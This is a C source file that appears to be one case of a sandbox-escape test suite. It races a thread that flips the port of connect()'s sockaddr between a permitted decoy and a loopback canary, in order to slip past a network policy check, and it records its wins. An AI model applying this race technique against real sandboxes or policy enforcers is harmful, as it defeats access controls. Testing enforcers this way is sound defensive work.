/* R04: a sibling thread flips the port of connect()'s sockaddr between the
 * decoy the policy allows and the canary listener. UDP, so one socket can
 * be connected again and again; a win is a socket whose peer is the
 * canary, and it then sends the canary a datagram. */
#include "escape.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

static struct sockaddr_in sa;
static in_port_t good, bad;

static void to_bad(void *unused)
{
	(void)unused;
	sa.sin_port = bad;
}

static void to_good(void *unused)
{
	(void)unused;
	sa.sin_port = good;
}

int attack(int argc, char **argv)
{
	static struct racer r = { .bad = to_bad, .good = to_good };
	pthread_t t;
	long w = 0, i;
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	if (s < 0)
		return result(-1), 1;
	good = htons((in_port_t)atoi(ARG("udport")));
	bad = htons((in_port_t)atoi(ARG("uport")));
	sa.sin_family = AF_INET;
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	/* one plain attempt with the bad value first: the denial the record
	 * must show, whatever the race does (escape.h, "The racer") */
	sa.sin_port = bad;
	w += connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0;
	sa.sin_port = good;
	pthread_create(&t, NULL, racer_thread, &r);
	for (i = 0; i < RACE_N; i++) {
		struct sockaddr_in peer;
		socklen_t len = sizeof(peer);

		if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0)
			continue;
		if (getpeername(s, (struct sockaddr *)&peer, &len) == 0 &&
		    peer.sin_port == bad) {
			w++;
			send(s, "x", 1, 0);
		}
	}
	racer_stop(&r);
	pthread_join(t, NULL);
	wins(w, i);
	return 0;
}
